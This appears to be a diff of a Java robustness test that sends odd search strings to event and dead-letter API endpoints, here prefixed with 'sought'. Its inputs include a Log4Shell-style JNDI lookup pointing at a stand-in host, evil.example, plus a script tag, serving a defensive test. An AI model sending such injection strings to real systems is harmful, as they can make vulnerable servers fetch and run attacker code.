@@ -81,7 +81,7 @@ class OperatorGuardTest extends RunningConnector {
         "\ud83d\ude00",
         "${jndi:ldap://evil.example}", "<script>", "LONG"})
     void aSearchForOddTextFindsNothingAndBreaksNothing(String odd) throws Exception {
-        String text = URLEncoder.encode(odd.equals("LONG") ? "x".repeat(7_000) : odd, StandardCharsets.UTF_8);
+        String text = URLEncoder.encode("sought" + (odd.equals("LONG") ? "x".repeat(7_000) : odd), StandardCharsets.UTF_8);
         postEvent(sample("tierUpgraded"));
         for (String search : List.of("/api/events?eventId=", "/api/events?customerId=", "/api/events?eventName=",
                 "/api/dead-letters?reason=", "/api/dead-letters?eventName=")) {
